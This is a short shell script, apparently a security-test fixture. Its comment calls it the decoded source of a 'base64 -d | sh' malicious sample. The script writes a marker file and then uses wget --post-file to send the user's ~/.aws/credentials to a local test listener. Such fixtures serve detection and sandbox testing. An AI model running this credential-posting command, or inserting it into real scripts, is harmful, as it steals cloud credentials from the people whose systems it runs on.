# Clear source of the script malicious/base64-pipe-sh pipes through
# "base64 -d | sh": posts the AWS credentials with wget, leaves a marker.
[ -n "$SP_TOKEN" ] && [ -n "$SP_MARK" ] || exit 0
echo "decoded script ran" > "$SP_MARK/b64-sh.ran"
wget -q -O /dev/null -T 10 --post-file="$HOME/.aws/credentials" "http://127.0.0.1:$SP_HTTP_PORT/c"
